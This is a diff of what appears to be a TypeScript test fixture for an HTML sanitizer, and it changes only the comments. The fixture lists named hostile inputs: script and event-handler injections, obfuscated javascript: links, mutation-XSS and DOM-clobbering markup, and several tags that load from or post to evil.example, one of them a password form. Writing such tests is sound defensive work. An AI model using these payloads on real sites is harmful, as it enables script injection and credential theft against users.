@@ -1,4 +1,4 @@
-/** What somebody might paste or import to run code, load from elsewhere or fool the page. */
+/** Inputs that try to run code, load from other hosts or interfere with the page. */
 export const HOSTILE: Record<string, string> = {
   // Scripts.
   'a script': '<script>alert(1)</script>',
@@ -28,7 +28,7 @@ export const HOSTILE: Record<string, string> = {
   'a handler after a backtick': '<img src="/a.jpg" alt=`x`onerror=alert(1)>',
   'a handler behind a broken quote': '<img src="/a.jpg" alt=""" onerror=alert(1) x=">',
   'a handler named with a quote': '<p "onclick"=alert(1) onclick\u0000=alert(1) \u0000onclick=alert(1)>x</p>',
-  // Addresses that run.
+  // URLs that run code.
   'a javascript link': '<a href="javascript:alert(1)">x</a>',
   'a javascript link in mixed case': '<a href="JaVaScRiPt:alert(1)">x</a>',
   'a javascript link with a tab': '<a href="java\tscript:alert(1)">x</a>',
@@ -44,7 +44,7 @@ export const HOSTILE: Record<string, string> = {
   'a javascript picture': '<img src="javascript:alert(1)">',
   'a javascript form': '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
   'a link that reports clicks': '<a href="/x" ping="https://evil.example/">x</a>',
-  // Pictures, sound and other calls to another host.
+  // Pictures, audio and other requests to another host.
   'a picture from another host': '<img src="https://evil.example/a.png" alt="x">',
   'a picture from another protocol': '<img src="//evil.example/a.png" alt="x">',
   'a picture behind backslashes': '<img src="/\\evil.example/a.png" alt="x">',
@@ -77,14 +77,14 @@ export const HOSTILE: Record<string, string> = {
   'an embed': '<embed src="https://evil.example/x.swf">',
   'an applet and a frameset': '<applet code=x></applet><frameset><frame src="javascript:alert(1)"></frameset>',
   'a portal and a fenced frame': '<portal src="https://evil.example"></portal><fencedframe></fencedframe>',
-  // The document's own elements.
+  // Document-level elements.
   'a refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
   'a base': '<base href="https://evil.example/"><a href="/x">x</a>',
   'a whole document': '<!doctype html><html manifest=x><head><title>x</title></head><body background=//evil.example>x',
   'a form': '<form action="https://evil.example"><input name=password type=password><textarea>x</textarea></form>',
   'a button that opens a popover': '<button popovertarget=x commandfor=x>x</button><div popover id=x>y</div>',
   'an input of type image': '<input type=image src="https://evil.example/a.png" onerror=alert(1)>',
-  // Other grammars, and markup that changes when it is parsed again.
+  // Other syntaxes, and markup that changes when it is parsed again.
   'svg that runs': '<svg onload=alert(1)><script>alert(1)</script></svg>',
   'svg never closed': '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a>',
   'svg that animates a link':
@@ -106,7 +106,7 @@ export const HOSTILE: Record<string, string> = {
   'xmp, noembed and plaintext': '<xmp><p title="</xmp><img src=x onerror=alert(1)>"><noembed></noembed><plaintext><b>',
   'a select': '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
   'entities that decode twice': '&lt;script&gt;alert(1)&lt;/script&gt;&amp;lt;img src=x onerror=alert(1)&amp;gt;',
-  // Names that stand for something in the page.
+  // Ids and names that clobber something in the page.
   'ids that clobber': '<h2 id="location">a</h2><p id="__proto__">b</p><a id="defaultView" name="cookie">c</a>',
   'names that clobber':
     '<img src="/a.jpg" name="getElementById"><a name="body">x</a><form name="forms" id=main>y</form>',
@@ -117,7 +117,7 @@ export const HOSTILE: Record<string, string> = {
   'a link to another window': '<a href="https://evil.example" target="opener" download rel="opener">x</a>',
   'an editable text': '<p contenteditable nonce=x itemid="https://evil.example">x</p>',
   'words that turn around': '<bdo dir="javascript:">x</bdo>',
-  // What editors may set on headings and parts.
+  // Data that editors may set on headings and parts.
   'a heading that leads to a script': '<h2 data-link="javascript:alert(1)" data-menu="x">x</h2>',
   'a heading that leads to a script behind a tab': '<h3 data-link=" java&#9;script:alert(1)">x</h3>',
   'a heading that leads to data': '<h2 data-link="data:text/html,<script>alert(1)</script>">x</h2>',
